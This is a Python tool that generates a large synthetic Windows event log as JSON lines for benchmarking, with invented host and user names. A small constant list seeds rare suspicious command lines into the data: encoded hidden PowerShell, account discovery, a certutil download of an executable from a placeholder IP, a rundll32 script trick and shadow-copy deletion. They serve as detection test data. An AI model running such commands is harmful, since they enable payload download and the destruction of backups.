"""A large log of Windows events, as JSON lines: mostly benign, with as many distinct values as a real one has.

`python tools/bench/windows_log.py PATH BYTES [SEED]`. Written by rules of chance alone; the names are invented.
"""

import random
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson

SYSMON = "Microsoft-Windows-Sysmon"
SECURITY = "Microsoft-Windows-Security-Auditing"
_PROGRAMS = (
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\RuntimeBroker.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Program Files\Van Phong\vanphong.exe",
    r"C:\Program Files (x86)\Trinh Duyet\trinhduyet.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Windows\System32\SearchIndexer.exe",
    r"C:\Program Files\Ke Toan\ketoan.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Program Files\Sao Luu\saoluu.exe",
)
_SUSPICIOUS = (
    r"powershell.exe -nop -w hidden -enc SQBFAFgA",
    r"cmd.exe /c whoami /all & net user",
    r"certutil -urlcache -f http://192.0.2.7/a.exe a.exe",
    r"rundll32.exe javascript:\"\..\mshtml,RunHTMLApplication\"",
    r"vssadmin delete shadows /all /quiet",
)


class Log:
    """Events at random, from one seed."""

    def __init__(self, seed: int) -> None:
        self._dice = random.Random(seed)  # noqa: S311
        self._at = datetime(2026, 4, 30, tzinfo=UTC)
        self._number = 0
        self._hosts = [f"MAY{n:04d}.noibo.example" for n in range(400)]
        self._users = [f"NOIBO\\nguoidung{n:04d}" for n in range(1500)]

    def events(self) -> Iterator[dict[str, Any]]:
        """Without end."""
        kinds: list[Callable[[], tuple[str, int, str, dict[str, Any]]]] = [
            self._process,
            self._network,
            self._image,
            self._registry,
            self._file,
            self._access,
            self._query,
            self._logon,
            self._created,
            self._connection,
            self._script,
        ]
        weights = [14, 10, 22, 16, 10, 8, 6, 5, 4, 4, 1]
        while True:
            (kind,) = self._dice.choices(kinds, weights)
            provider, number, channel, data = kind()
            self._number += 1
            self._at += timedelta(milliseconds=self._dice.randrange(1, 40))
            yield {
                "Event": {
                    "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                    "System": {
                        "Provider": {"#attributes": {"Name": provider, "Guid": self._guid()}},
                        "EventID": number,
                        "Version": 5,
                        "Level": 4,
                        "Task": number,
                        "Opcode": 0,
                        "Keywords": "0x8000000000000000",
                        "TimeCreated": {"#attributes": {"SystemTime": self._at.isoformat()}},
                        "EventRecordID": self._number,
                        "Correlation": None,
                        "Execution": {"#attributes": {"ProcessID": self._pid(), "ThreadID": self._pid()}},
                        "Channel": channel,
                        "Computer": self._dice.choice(self._hosts),
                        "Security": {"#attributes": {"UserID": "S-1-5-18"}},
                    },
                    "EventData": data,
                }
            }

    def _pid(self) -> int:
        return self._dice.randrange(4, 30000) & ~3

    def _hex(self, digits: int) -> str:
        return f"{self._dice.getrandbits(digits * 4):0{digits}X}"

    def _guid(self) -> str:
        return f"{self._hex(8)}-{self._hex(4)}-{self._hex(4)}-{self._hex(4)}-{self._hex(12)}"

    def _program(self) -> str:
        if self._dice.random() < 0.8:
            return self._dice.choice(_PROGRAMS)
        return rf"C:\Program Files\Phan Mem {self._dice.randrange(300)}\bin\chuongtrinh{self._dice.randrange(40)}.exe"

    def _path(self, ending: str) -> str:
        home = rf"C:\Users\nguoidung{self._dice.randrange(1500):04d}\AppData\Local"
        return rf"{home}\Luu Tru\{self._hex(6)}\{self._hex(10)}.{ending}"

    def _line(self, program: str) -> str:
        if self._dice.random() < 0.0005:
            return self._dice.choice(_SUSPICIOUS)
        return f'"{program}" --phien={self._hex(12)} --muc {self._dice.randrange(9)} --tep "{self._path("dat")}"'

    def _hashes(self) -> str:
        return f"SHA1={self._hex(40)},MD5={self._hex(32)},SHA256={self._hex(64)},IMPHASH={self._hex(32)}"

    def _sysmon(self, number: int, **data: Any) -> tuple[str, int, str, dict[str, Any]]:
        head = {"RuleName": "-", "UtcTime": self._at.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]}
        return SYSMON, number, "Microsoft-Windows-Sysmon/Operational", {**head, **data}

    def _process(self) -> tuple[str, int, str, dict[str, Any]]:
        program, parent = self._program(), self._program()
        return self._sysmon(
            1,
            ProcessGuid=self._guid(),
            ProcessId=self._pid(),
            Image=program,
            FileVersion="10.0.19041.1",
            Description="Chương trình",
            Product="Phần mềm",
            Company="Công ty Mẫu",
            OriginalFileName=program.rsplit("\\", 1)[-1],
            CommandLine=self._line(program),
            CurrentDirectory="C:\\Windows\\system32\\",
            User=self._dice.choice(self._users),
            LogonGuid=self._guid(),
            LogonId=f"0x{self._hex(6).lower()}",
            TerminalSessionId=self._dice.randrange(4),
            IntegrityLevel="Medium",
            Hashes=self._hashes(),
            ParentProcessGuid=self._guid(),
            ParentProcessId=self._pid(),
            ParentImage=parent,
            ParentCommandLine=self._line(parent),
            ParentUser=self._dice.choice(self._users),
        )

    def _network(self) -> tuple[str, int, str, dict[str, Any]]:
        return self._sysmon(
            3,
            ProcessGuid=self._guid(),
            ProcessId=self._pid(),
            Image=self._program(),
            User=self._dice.choice(self._users),
            Protocol="tcp",
            Initiated=True,
            SourceIsIpv6=False,
            SourceIp=f"10.{self._dice.randrange(256)}.{self._dice.randrange(256)}.9",
            SourceHostname=self._dice.choice(self._hosts),
            SourcePort=self._dice.randrange(49152, 65536),
            SourcePortName="",
            DestinationIsIpv6=False,
            DestinationIp=f"198.51.100.{self._dice.randrange(256)}",
            DestinationHostname=f"may{self._dice.randrange(9000)}.dichvu.example",
            DestinationPort=443,
            DestinationPortName="https",
        )

    def _image(self) -> tuple[str, int, str, dict[str, Any]]:
        return self._sysmon(
            7,
            ProcessGuid=self._guid(),
            ProcessId=self._pid(),
            Image=self._program(),
            ImageLoaded=rf"C:\Windows\System32\thuvien{self._dice.randrange(3000)}.dll",
            FileVersion="10.0.19041.1",
            Description="Thư viện",
            Product="Hệ điều hành",
            Company="Công ty Mẫu",
            OriginalFileName="thuvien.dll",
            Hashes=self._hashes(),
            Signed=True,
            Signature="Công ty Mẫu",
            SignatureStatus="Valid",
            User=self._dice.choice(self._users),
        )

    def _registry(self) -> tuple[str, int, str, dict[str, Any]]:
        return self._sysmon(
            13,
            EventType="SetValue",
            ProcessGuid=self._guid(),
            ProcessId=self._pid(),
            Image=self._program(),
            TargetObject=rf"HKU\S-1-5-21-{self._dice.randrange(10**9)}\Software\Cong Ty\{self._hex(8)}\Gia Tri",
            Details=f"DWORD (0x{self._hex(8)})",
            User=self._dice.choice(self._users),
        )

    def _file(self) -> tuple[str, int, str, dict[str, Any]]:
        return self._sysmon(
            11,
            ProcessGuid=self._guid(),
            ProcessId=self._pid(),
            Image=self._program(),
            TargetFilename=self._path("tmp"),
            CreationUtcTime="2026-04-29 23:59:59.000",
            User=self._dice.choice(self._users),
        )

    def _access(self) -> tuple[str, int, str, dict[str, Any]]:
        return self._sysmon(
            10,
            SourceProcessGUID=self._guid(),
            SourceProcessId=self._pid(),
            SourceThreadId=self._pid(),
            SourceImage=self._program(),
            TargetProcessGUID=self._guid(),
            TargetProcessId=self._pid(),
            TargetImage=self._program(),
            GrantedAccess="0x1000",
            CallTrace=rf"C:\Windows\SYSTEM32\ntdll.dll+{self._hex(5)}|C:\Windows\System32\KERNELBASE.dll+{self._hex(5)}|UNKNOWN({self._hex(16)})",
            SourceUser="NT AUTHORITY\\SYSTEM",
            TargetUser=self._dice.choice(self._users),
        )

    def _query(self) -> tuple[str, int, str, dict[str, Any]]:
        return self._sysmon(
            22,
            ProcessGuid=self._guid(),
            ProcessId=self._pid(),
            QueryName=f"{self._hex(6).lower()}.dichvu{self._dice.randrange(500)}.example",
            QueryStatus="0",
            QueryResults=f"::ffff:198.51.100.{self._dice.randrange(256)};",
            Image=self._program(),
            User=self._dice.choice(self._users),
        )

    def _security(self, number: int, **data: Any) -> tuple[str, int, str, dict[str, Any]]:
        return SECURITY, number, "Security", data

    def _logon(self) -> tuple[str, int, str, dict[str, Any]]:
        return self._security(
            4624,
            SubjectUserSid="S-1-5-18",
            SubjectUserName=f"MAY{self._dice.randrange(400):04d}$",
            SubjectDomainName="NOIBO",
            SubjectLogonId="0x3e7",
            TargetUserSid=f"S-1-5-21-{self._dice.randrange(10**9)}",
            TargetUserName=f"nguoidung{self._dice.randrange(1500):04d}",
            TargetDomainName="NOIBO",
            TargetLogonId=f"0x{self._hex(7).lower()}",
            LogonType=self._dice.choice((2, 3, 3, 3, 5, 7)),
            LogonProcessName="Advapi  ",
            AuthenticationPackageName="Negotiate",
            WorkstationName=f"MAY{self._dice.randrange(400):04d}",
            LogonGuid=self._guid(),
            TransmittedServices="-",
            LmPackageName="-",
            KeyLength=0,
            ProcessId=hex(self._pid()),
            ProcessName=r"C:\Windows\System32\services.exe",
            IpAddress=f"10.0.{self._dice.randrange(256)}.{self._dice.randrange(256)}",
            IpPort=str(self._dice.randrange(65536)),
            ImpersonationLevel="%%1833",
        )

    def _created(self) -> tuple[str, int, str, dict[str, Any]]:
        program = self._program()
        return self._security(
            4688,
            SubjectUserSid="S-1-5-18",
            SubjectUserName=f"MAY{self._dice.randrange(400):04d}$",
            SubjectDomainName="NOIBO",
            SubjectLogonId="0x3e7",
            NewProcessId=hex(self._pid()),
            NewProcessName=program,
            TokenElevationType="%%1936",
            ProcessId=hex(self._pid()),
            CommandLine=self._line(program),
            TargetUserSid="S-1-0-0",
            TargetUserName="-",
            TargetDomainName="-",
            TargetLogonId="0x0",
            ParentProcessName=self._program(),
            MandatoryLabel="S-1-16-16384",
        )

    def _connection(self) -> tuple[str, int, str, dict[str, Any]]:
        return self._security(
            5156,
            ProcessID=str(self._pid()),
            Application=r"\device\harddiskvolume2\windows\system32\svchost.exe",
            Direction="%%14593",
            SourceAddress=f"10.0.{self._dice.randrange(256)}.{self._dice.randrange(256)}",
            SourcePort=str(self._dice.randrange(65536)),
            DestAddress=f"203.0.113.{self._dice.randrange(256)}",
            DestPort="443",
            Protocol="6",
            FilterRTID="69",
            LayerName="%%14611",
            LayerRTID="48",
            RemoteUserID="S-1-0-0",
            RemoteMachineID="S-1-0-0",
        )

    def _script(self) -> tuple[str, int, str, dict[str, Any]]:
        lines = "\n".join(
            f"$bien{self._hex(4)} = Get-Noi-Dung -Duong '{self._path('txt')}'"
            for _ in range(self._dice.randrange(3, 30))
        )
        return (
            "Microsoft-Windows-PowerShell",
            4104,
            "Microsoft-Windows-PowerShell/Operational",
            {
                "MessageNumber": 1,
                "MessageTotal": 1,
                "ScriptBlockText": lines,
                "ScriptBlockId": self._guid(),
                "Path": "",
            },
        )


def write(path: Path, size: int, seed: int = 20260430) -> int:
    """Events until the file has `size` bytes; how many there are."""
    events, written, many = Log(seed).events(), 0, 0
    with path.open("wb") as out:
        while written < size:
            block = b"".join(orjson.dumps(next(events)) + b"\n" for _ in range(1000))
            out.write(block)
            written, many = written + len(block), many + 1000
    return many


if __name__ == "__main__":
    print(write(Path(sys.argv[1]), int(sys.argv[2]), *(int(one) for one in sys.argv[3:])))
